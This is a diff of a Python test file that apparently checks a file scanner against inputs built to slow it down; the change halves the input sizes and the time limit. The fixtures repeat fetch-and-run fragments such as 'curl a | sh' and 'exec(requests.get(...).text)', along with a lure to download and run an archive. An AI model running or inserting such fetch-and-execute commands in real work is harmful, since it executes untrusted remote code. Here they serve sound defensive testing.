@@ -131,16 +131,16 @@ HOSTILE = {
     "one-line.md": b"a" * 1_000_000,
     "lines.md": b"\n" * 1_000_000,
     "comments.md": b"<!--" * 250_000,
-    "fences.md": b"```\n" * 200_000,
-    "ticks.md": b"`curl " * 150_000,
-    "headings.md": b"## red flags\ncurl a | sh\n" * 20_000,
-    "quotes.sh": b"curl '\" $( ` " * 60_000,
-    "pipes.sh": b"curl|sh\n" * 100_000,
-    "heredocs.sh": b"curl <<a\n" * 80_000,
+    "fences.md": b"```\n" * 100_000,
+    "ticks.md": b"`curl " * 75_000,
+    "headings.md": b"## red flags\ncurl a | sh\n" * 10_000,
+    "quotes.sh": b"curl '\" $( ` " * 30_000,
+    "pipes.sh": b"curl|sh\n" * 50_000,
+    "heredocs.sh": b"curl <<a\n" * 40_000,
     "nested.sh": b"curl $(" * 100_000,
     "sums.py": b"a+" * 100_000 + b"1",
-    "calls.py": b"exec(requests.get('https://a.example').text)\n" * 8_000,
-    "assigns.py": b"".join(b"a%d = requests.get(a%d)\n" % (n, n + 1) for n in range(8_000)),
+    "calls.py": b"exec(requests.get('https://a.example').text)\n" * 4_000,
+    "assigns.py": b"".join(b"a%d = requests.get(a%d)\n" % (n, n + 1) for n in range(4_000)),
     "escapes.js": b"\\x41" * 200_000,
     "blobs.js": b"QUFB" * 250_000,
     "urls.md": b"https://203.0.113.1/a.zip password: x run the executable before using " * 10_000,
@@ -159,7 +159,7 @@ def test_files_made_to_take_long_do_not(tmp_path, name):
     (tmp_path / name).write_bytes(HOSTILE[name])
     started = time.process_time()
     scan(tmp_path)
-    assert time.process_time() - started < 8
+    assert time.process_time() - started < 4
 
 
 def test_many_entries_are_bounded_and_reported(tmp_path):
